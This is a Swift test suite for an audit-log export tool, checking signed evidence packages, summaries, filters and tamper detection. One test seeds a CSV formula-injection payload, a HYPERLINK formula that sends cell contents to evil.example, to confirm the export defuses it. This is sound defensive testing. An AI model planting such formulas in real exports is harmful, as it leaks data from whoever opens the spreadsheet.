import AuditCore
import AuditEvidence
import AuditStore
import Foundation
import LibPQ
import Testing
import TestSupport

/// One exchange to seed: a request record and, unless incomplete, a response record.
struct SeedExchange {
    var chain: String
    var user: String?
    var team: String?
    var model = "claude-sonnet-4-5"
    var outcome: Outcome
    var status: Int
    var startedAt: String  // RFC 3339
    var latencyMs: Int64 = 120
    var inputTokens: Int64 = 10
    var outputTokens: Int64 = 20
    var requestBody: String? = "{\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}]}"
}

/// Writes exchanges into the store as the journal would, each chain gapless and in time order.
func seed(_ database: TestDatabase, _ exchanges: [SeedExchange]) throws {
    let formatter = ISO8601DateFormatter()
    formatter.formatOptions = [.withInternetDateTime, .withFractionalSeconds]
    var records: [(micros: Int64, chain: String, draft: RecordDraft)] = []
    for (index, exchange) in exchanges.enumerated() {
        let start = Int64(try #require(formatter.date(from: exchange.startedAt)).timeIntervalSince1970 * 1_000_000)
        var request = RecordDraft(kind: .request, requestID: "req-\(index)")
        request.userID = exchange.user
        request.teamID = exchange.team
        request.keyID = exchange.user.map { "key-\($0)" }
        request.api = "anthropic.messages"
        request.method = "POST"
        request.path = "/v1/messages"
        request.provider = "anthropic"
        request.model = exchange.model
        request.stream = false
        request.clientIP = "10.0.0.\(index % 7)"
        request.body = exchange.requestBody
        records.append((start, exchange.chain, request))
        guard exchange.outcome != .incomplete else { continue }
        var response = RecordDraft(kind: .response, requestID: "req-\(index)")
        response.statusCode = exchange.status
        response.outcome = exchange.outcome
        response.model = exchange.model
        response.inputTokens = exchange.inputTokens
        response.outputTokens = exchange.outputTokens
        response.latencyMs = exchange.latencyMs
        response.ttfbMs = exchange.latencyMs / 2
        response.body = "{\"content\":\"ok\"}"
        records.append((start + exchange.latencyMs * 1000, exchange.chain, response))
    }
    var heads: [String: (Int64, [UInt8])] = [:]
    var sealed: [AuditRecord] = []
    for (micros, chain, draft) in records.sorted(by: { $0.micros < $1.micros }) {
        let (seq, prev) = heads[chain] ?? (0, AuditRecord.genesisHash)
        let record = AuditRecord.seal(draft, chainID: chain, seq: seq + 1, recordedAtMicros: micros, prevHash: prev)
        heads[chain] = (seq + 1, record.hash)
        sealed.append(record)
    }
    try ChainStore(url: database.writerURL).insert(sealed)
}

/// October and November 2026 (Seoul time) for two chains, several users, teams and outcomes.
func seedTwoMonths(_ database: TestDatabase) throws {
    var exchanges: [SeedExchange] = []
    let users = [("alice", "risk"), ("bob", "risk"), ("chloe", "ops"), ("dae", "ops")]
    let outcomes: [(Outcome, Int)] = [(.ok, 200), (.ok, 200), (.upstreamError, 529), (.clientError, 400), (.ok, 200), (.incomplete, 0)]
    for day in 1...30 {
        for (index, (user, team)) in users.enumerated() {
            let (outcome, status) = outcomes[(day + index) % outcomes.count]
            exchanges.append(
                SeedExchange(
                    chain: index % 2 == 0 ? "gw-a" : "gw-b", user: user, team: team,
                    model: index == 3 ? "gpt-4.1" : "claude-sonnet-4-5", outcome: outcome, status: status,
                    startedAt: String(format: "2026-10-%02dT0%d:15:00.000+09:00", day, index + 1),
                    latencyMs: Int64(100 + day * 10 + index), inputTokens: Int64(day), outputTokens: Int64(index * 3)))
        }
        exchanges.append(
            SeedExchange(
                chain: "gw-a", user: nil, team: nil, outcome: .denied, status: 401,
                startedAt: String(format: "2026-11-%02dT10:00:00.000+09:00", day), inputTokens: 0, outputTokens: 0))
    }
    // At the edges of October in Seoul: inside by a millisecond, and outside.
    exchanges.append(SeedExchange(chain: "gw-b", user: "edge", team: "risk", outcome: .ok, status: 200, startedAt: "2026-09-30T15:00:00.000Z"))
    exchanges.append(SeedExchange(chain: "gw-b", user: "edge", team: "risk", outcome: .ok, status: 200, startedAt: "2026-09-30T14:59:59.999Z"))
    exchanges.append(SeedExchange(chain: "gw-b", user: "edge", team: "risk", outcome: .ok, status: 200, startedAt: "2026-10-31T15:00:00.000Z"))
    try seed(database, exchanges)
}

func report(_ arguments: [String]) -> (status: Int32, output: String) {
    do {
        return (0, try runCommand(binDirectory + "/auditgate-report", arguments))
    } catch let failure as CommandFailure {
        return (failure.status, failure.output + failure.errors)
    } catch {
        return (-1, "\(error)")
    }
}

func keyPair() throws -> (private: String, public: String) {
    let path = temporaryDirectory() + "/signing"
    let key = Ed25519PrivateKey.generate()
    try key.pem.write(toFile: path, atomically: true, encoding: .utf8)
    try key.publicKey.pem.write(toFile: path + ".pub", atomically: true, encoding: .utf8)
    return (path, path + ".pub")
}

/// RFC 4180 records of a CSV file (quoted fields may hold commas, quotes and line breaks).
func csvRecords(_ path: String) throws -> [[String]] {
    let text = try String(contentsOfFile: path, encoding: .utf8)
    var records: [[String]] = []
    var field = ""
    var record: [String] = []
    var quoted = false
    var iterator = Array(text.unicodeScalars).makeIterator()
    var pending: Unicode.Scalar? = nil
    while let c = pending ?? iterator.next() {
        pending = nil
        if quoted {
            if c == "\"" {
                if let next = iterator.next() {
                    if next == "\"" { field.unicodeScalars.append("\"") } else { quoted = false; pending = next }
                } else { quoted = false }
            } else { field.unicodeScalars.append(c) }
        } else if c == "\"" { quoted = true
        } else if c == "," { record.append(field); field = ""
        } else if c == "\r" { continue
        } else if c == "\n" { record.append(field); records.append(record); record = []; field = ""
        } else { field.unicodeScalars.append(c) }
    }
    return records
}

@Suite struct ExportTests {
    let database: TestDatabase
    let reader: String

    init() throws {
        database = try TestDatabase()
        reader = database.readerURL
        try seedTwoMonths(database)
    }

    @Test func thePackageHoldsExactlyThePeriodsExchanges() throws {
        let key = try keyPair()
        let out = temporaryDirectory() + "/october"
        let result = report(["export", "--database", reader, "--period", "2026-10", "--tz", "Asia/Seoul", "--signing-key", key.private, "--out", out])
        #expect(result.status == 0, "\(result.output)")

        let expected = try database.connect().execute(
            "SELECT request_id FROM audit.exchanges WHERE started_at >= '2026-10-01T00:00:00+09:00' AND started_at < '2026-11-01T00:00:00+09:00' ORDER BY request_id")
        let expectedIDs = (0..<expected.rowCount).compactMap { expected.string($0, 0) }
        #expect(expectedIDs.count == 121)  // 120 in October plus the one on the first millisecond

        let csv = try csvRecords(out + "/exchanges.csv")
        #expect(csv[0] == PackageExporter.exchangeColumns.map(\.name))
        #expect(csv.dropFirst().map { $0[0] }.sorted() == expectedIDs)
        let lines = try String(contentsOfFile: out + "/exchanges.jsonl", encoding: .utf8).split(separator: "\n")
        let jsonIDs = try lines.map { line -> String in
            let object = try #require(try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any])
            return try #require(object["request_id"] as? String)
        }
        #expect(jsonIDs.sorted() == expectedIDs)
        // Timestamps in the chosen zone with milliseconds.
        #expect(csv[1][1].hasSuffix("+09:00") && csv[1][1].contains(".000"), "\(csv[1][1])")

        let manifest = try EvidenceManifest.decode(Data(contentsOf: URL(fileURLWithPath: out + "/manifest.json")))
        #expect(manifest.counts.exchanges == 121)
        #expect(manifest.counts.byOutcome["incomplete"] == 20 && manifest.counts.byOutcome["denied"] == 0)
        #expect(manifest.period.fromUTC == "2026-09-30T15:00:00.000Z" && manifest.period.timeZone == "Asia/Seoul")

        let integrity = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: URL(fileURLWithPath: out + "/integrity.json"))) as? [String: Any])
        let chains = try #require(integrity["chains"] as? [[String: Any]])
        #expect(chains.map { $0["chain_id"] as? String } == ["gw-a", "gw-b"])
        #expect(chains.allSatisfy { ($0["gaps"] as? [Any])?.isEmpty == true && $0["verified"] as? Bool == true })
        #expect(report(["verify-export", out, "--public-key", key.public]).status == 0)
    }

    @Test func theSummaryMatchesSQLAggregates() throws {
        let out = temporaryDirectory() + "/summary"
        #expect(report(["export", "--database", reader, "--period", "2026-10", "--tz", "Asia/Seoul", "--out", out]).status == 0)
        let summary = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: URL(fileURLWithPath: out + "/summary.json"))) as? [[String: Any]])
        let sql = try database.connect().execute("""
            SELECT team_id, count(*), count(*) FILTER (WHERE outcome IN ('upstream_error','client_error','gateway_error','incomplete')),
                   sum(output_tokens), percentile_cont(0.95) WITHIN GROUP (ORDER BY latency_ms)
            FROM audit.exchanges WHERE started_at >= '2026-10-01T00:00:00+09:00' AND started_at < '2026-11-01T00:00:00+09:00'
            GROUP BY team_id ORDER BY team_id
            """)
        let teams = summary.filter { $0["scope"] as? String == "team" }
        #expect(teams.count == sql.rowCount)
        for index in 0..<sql.rowCount {
            let row = try #require(teams.first { $0["team_id"] as? String == sql.string(index, 0) })
            #expect((row["calls"] as? NSNumber)?.intValue == Int(sql.string(index, 1)!))
            #expect((row["errors"] as? NSNumber)?.intValue == Int(sql.string(index, 2)!))
            #expect((row["output_tokens"] as? NSNumber)?.intValue == Int(sql.string(index, 3)!))
            let p95 = try #require((row["latency_p95_ms"] as? NSNumber)?.doubleValue)
            #expect(abs(p95 - Double(sql.string(index, 4)!)!) < 0.06)
        }
        let total = try #require(summary.first { $0["scope"] as? String == "total" })
        #expect((total["calls"] as? NSNumber)?.intValue == 121)
        let csv = try csvRecords(out + "/summary.csv")
        #expect(csv.count - 1 == summary.count)
    }

    @Test func aFormulaInAPromptNeverReachesACellAlive() throws {
        let hostile = try TestDatabase()
        var exchange = SeedExchange(chain: "gw-x", user: "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", team: "+risk", outcome: .ok, status: 200, startedAt: "2026-10-05T10:00:00.000Z")
        exchange.requestBody = "@SUM(1,2)\t-2+3,\"quoted\"\r\nline"
        try seed(hostile, [exchange])
        let out = temporaryDirectory() + "/formula"
        #expect(report(["export", "--database", hostile.readerURL, "--period", "2026-10", "--include-bodies", "--out", out]).status == 0)
        let csv = try csvRecords(out + "/exchanges.csv")
        let header = csv[0]
        let row = csv[1]
        let user = row[try #require(header.firstIndex(of: "user_id"))]
        #expect(user == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")
        #expect(row[try #require(header.firstIndex(of: "team_id"))] == "'+risk")
        #expect(row[try #require(header.firstIndex(of: "request_body"))] == "'@SUM(1,2)\t-2+3,\"quoted\"\r\nline")
        for cell in row where !cell.isEmpty {
            #expect(!["=", "+", "-", "@", "\t", "\r"].contains(String(cell.prefix(1))), "live cell: \(cell)")
        }
        // The JSON Lines file keeps the value as it was.
        let json = try String(contentsOfFile: out + "/exchanges.jsonl", encoding: .utf8)
        #expect(json.contains("\"user_id\":\"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"click\\\")\""))
    }

    @Test func anEmptyPeriodStillYieldsACompleteSignedPackage() throws {
        let key = try keyPair()
        let out = temporaryDirectory() + "/empty"
        #expect(report(["export", "--database", reader, "--period", "2025-01", "--signing-key", key.private, "--out", out]).status == 0)
        let files = try Set(FileManager.default.contentsOfDirectory(atPath: out))
        #expect(files == ["exchanges.csv", "exchanges.jsonl", "summary.csv", "summary.json", "integrity.json", "manifest.json", "manifest.sig"])
        let manifest = try EvidenceManifest.decode(Data(contentsOf: URL(fileURLWithPath: out + "/manifest.json")))
        #expect(manifest.counts.exchanges == 0)
        #expect(report(["verify-export", out, "--public-key", key.public]).status == 0)
    }

    @Test func filtersKeepOnlyThatTeamOrUser() throws {
        let out = temporaryDirectory() + "/ops"
        #expect(report(["export", "--database", reader, "--period", "2026-10", "--tz", "Asia/Seoul", "--team", "ops", "--out", out]).status == 0)
        let csv = try csvRecords(out + "/exchanges.csv")
        let team = try #require(csv[0].firstIndex(of: "team_id"))
        #expect(csv.count - 1 == 60 && csv.dropFirst().allSatisfy { $0[team] == "ops" })
        let userOut = temporaryDirectory() + "/bob"
        #expect(report(["export", "--database", reader, "--period", "2026-10", "--tz", "Asia/Seoul", "--user", "bob", "--out", userOut]).status == 0)
        #expect(try csvRecords(userOut + "/exchanges.csv").count - 1 == 30)
    }

    @Test func verifyExportCatchesEveryKindOfTampering() throws {
        let key = try keyPair()
        let other = try keyPair()
        let pristine = temporaryDirectory() + "/pristine"
        #expect(report(["export", "--database", reader, "--period", "2026-10", "--tz", "Asia/Seoul", "--signing-key", key.private, "--out", pristine]).status == 0)
        #expect(report(["verify-export", pristine, "--public-key", key.public]).status == 0)

        let wrongKey = report(["verify-export", pristine, "--public-key", other.public])
        #expect(wrongKey.status == 1, "\(wrongKey.output)")

        for file in ["exchanges.csv", "exchanges.jsonl", "summary.csv", "summary.json", "integrity.json"] {
            let copy = temporaryDirectory() + "/tampered"
            try FileManager.default.copyItem(atPath: pristine, toPath: copy)
            var bytes = [UInt8](try Data(contentsOf: URL(fileURLWithPath: copy + "/" + file)))
            bytes[bytes.count / 2] ^= 0x01
            try Data(bytes).write(to: URL(fileURLWithPath: copy + "/" + file))
            let result = report(["verify-export", copy, "--public-key", key.public])
            #expect(result.status == 1)
            #expect(result.output.contains("FAILED") && result.output.contains(file), "\(file): \(result.output)")
        }

        // A row removed from both files: caught even without a key (hashes), and the signature fails too.
        let removed = temporaryDirectory() + "/removed"
        try FileManager.default.copyItem(atPath: pristine, toPath: removed)
        for (file, dropIndex) in [("exchanges.csv", 5), ("exchanges.jsonl", 4)] {
            var lines = try String(contentsOfFile: removed + "/" + file, encoding: .utf8).components(separatedBy: file.hasSuffix(".csv") ? "\r\n" : "\n")
            lines.remove(at: dropIndex)
            try lines.joined(separator: file.hasSuffix(".csv") ? "\r\n" : "\n").write(toFile: removed + "/" + file, atomically: true, encoding: .utf8)
        }
        #expect(report(["verify-export", removed, "--public-key", key.public]).status == 1)
        #expect(report(["verify-export", removed]).status == 1)
    }

    @Test func consecutivePackagesChainAndTheLinkIsChecked() throws {
        let key = try keyPair()
        let october = temporaryDirectory() + "/2026-10"
        let november = temporaryDirectory() + "/2026-11"
        #expect(report(["export", "--database", reader, "--period", "2026-10", "--tz", "Asia/Seoul", "--signing-key", key.private, "--out", october]).status == 0)
        #expect(report(["export", "--database", reader, "--period", "2026-11", "--tz", "Asia/Seoul", "--signing-key", key.private, "--previous", october, "--out", november]).status == 0)
        let manifest = try EvidenceManifest.decode(Data(contentsOf: URL(fileURLWithPath: november + "/manifest.json")))
        let octoberHash = SHA256.hash([UInt8](try Data(contentsOf: URL(fileURLWithPath: october + "/manifest.json")))).hexString
        #expect(manifest.previousManifestSHA256 == octoberHash)
        #expect(manifest.counts.byOutcome["denied"] == 30)
        #expect(report(["verify-export", november, "--public-key", key.public, "--previous", october]).status == 0)
        // Another package posing as the previous one is refused.
        let impostor = temporaryDirectory() + "/impostor"
        #expect(report(["export", "--database", reader, "--period", "2026-09", "--tz", "Asia/Seoul", "--signing-key", key.private, "--out", impostor]).status == 0)
        let broken = report(["verify-export", november, "--public-key", key.public, "--previous", impostor])
        #expect(broken.status == 1, "\(broken.output)")
    }

    @Test func reportDefinitionsRunUnderTheReaderRole() throws {
        let names = ReportDefinition.list(directory: packageRoot + "/reports")
        #expect(Set(names).isSuperset(of: ["usage_by_team_user_model", "denied_calls", "failed_calls", "redaction_activity", "monthly_access_review"]))
        let base = temporaryDirectory()
        for name in names {
            let out = base + "/" + name
            let result = report(["run", name, "--database", reader, "--period", "2026-11", "--tz", "Asia/Seoul", "--reports-dir", packageRoot + "/reports", "--out", out])
            #expect(result.status == 0, "\(name): \(result.output)")
            #expect(FileManager.default.fileExists(atPath: out + "/\(name).csv") && FileManager.default.fileExists(atPath: out + "/\(name).json"))
        }
        #expect(try csvRecords(base + "/denied_calls/denied_calls.csv").count - 1 == 30)
        let review = try csvRecords(base + "/monthly_access_review/monthly_access_review.csv")
        #expect(review.dropFirst().first?.first == "(unidentified)")  // the denied callers come first
    }
}
